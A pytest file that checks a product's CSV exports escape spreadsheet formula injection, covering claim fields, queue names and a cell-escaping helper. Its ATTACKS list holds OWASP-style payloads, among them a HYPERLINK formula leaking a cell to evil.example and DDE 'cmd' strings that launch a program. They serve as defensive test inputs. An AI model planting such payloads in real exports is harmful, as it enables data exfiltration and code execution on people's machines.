"""CSV formula injection: text a person typed never reaches a spreadsheet as a live formula,
in any CSV the product writes (all through app/csv_responses.py), on PostgreSQL and SQLite."""

from __future__ import annotations

import csv
import io

import pytest
from marshmallow import Schema, fields

from app.csv_responses import csv_response, safe_cell
from app.db import db
from app.queues.models import Queue
from tenants.scoping import tenant_scope
from tests.test_reports_registers import register
from tests.test_reports_sla import contact, csv_rows, sla, span, store, t

# What a spreadsheet runs: the classic payloads, each behind one of the characters that start
# a formula (OWASP), also behind leading whitespace.
ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def a_claim(db_app, tenant, *, subject: str, remedy: str, external_id: str | None = None):
    with db_app.app_context(), tenant_scope(tenant.id):
        queue = Queue(name="Claims", channels=["web", "email"])
        db.session.add(queue)
        db.session.commit()
        queue_id = queue.id
    store(
        db_app,
        tenant,
        contacts=[
            contact(
                queue_id,
                t("2025-05-06T10:00:00+02:00"),
                channel="web",
                category="claim",
                subject=subject,
                remedy_requested=remedy,
                external_id=external_id,
            )
        ],
    )
    return queue_id


@pytest.mark.parametrize("attack", ATTACKS, ids=repr)
def test_a_claim_whose_subject_or_remedy_is_a_formula_downloads_as_text(
    db_app, db_client, db_factory, attack
):
    tenant = db_factory.tenant()
    a_claim(db_app, tenant, subject=attack, remedy=attack, external_id=attack)
    viewer = db_factory.caller("client_viewer", tenant)

    as_json = register(db_client, viewer, tenant, year=2025).get_json()
    [row] = csv_rows(register(db_client, viewer, tenant, headers={"Accept": "text/csv"}, year=2025))

    # The JSON keeps what was typed; the CSV cell is the same text, marked as text.
    [claim] = as_json["complaints"]
    assert claim["summary"] == claim["remedy_requested"] == attack
    assert row["summary"] == row["remedy_requested"] == row["external_id"] == "'" + attack


def test_a_queue_named_like_a_formula_is_text_in_the_sla_report_csv(db_app, db_client, db_factory):
    tenant = db_factory.tenant()
    queue_id = a_claim(db_app, tenant, subject="Late parcel", remedy="Refund")
    with db_app.app_context(), tenant_scope(tenant.id):
        db.session.get(Queue, queue_id).name = "=1+1"
        db.session.commit()
    viewer = db_factory.caller("client_viewer", tenant)

    rows = csv_rows(
        sla(
            db_client,
            viewer,
            tenant,
            headers={"Accept": "text/csv"},
            **span("2025-05-06", "2025-05-07", group_by="queue"),
        )
    )

    assert {row["group_name"] for row in rows} == {"'=1+1"}


def test_ordinary_text_and_numbers_are_written_as_they_are(app):
    class LineSchema(Schema):
        description = fields.String()
        amount = fields.Integer()
        ratio = fields.Float()
        note = fields.String(allow_none=True)

    lines = [
        {"description": "SLA credit", "amount": -2500, "ratio": -0.25, "note": None},
        {"description": "-2500", "amount": 0, "ratio": 1.5, "note": "a = b, then @ c"},
    ]
    with app.test_request_context():
        response = csv_response(LineSchema(), lines, "lines.csv")
        text = response.get_data(as_text=True)

    rows = list(csv.DictReader(io.StringIO(text)))
    # A negative amount we write is a number; the same figure typed as text is marked as text.
    assert rows[0] == {"description": "SLA credit", "amount": "-2500", "ratio": "-0.25", "note": ""}
    assert rows[1] == {
        "description": "'-2500",
        "amount": "0",
        "ratio": "1.5",
        "note": "a = b, then @ c",
    }


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=A1", "'=A1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\tA1", "'\tA1"),
        ("\rA1", "'\rA1"),
        ("\nA1", "'\nA1"),
        (" \u00a0=A1", "' \u00a0=A1"),
        ("'=A1", "'=A1"),
        ("A1=B1", "A1=B1"),
        ("", ""),
        ("Refund", "Refund"),
    ],
)
def test_safe_cell_marks_exactly_the_text_a_spreadsheet_would_run(text, written):
    assert safe_cell(text) == written
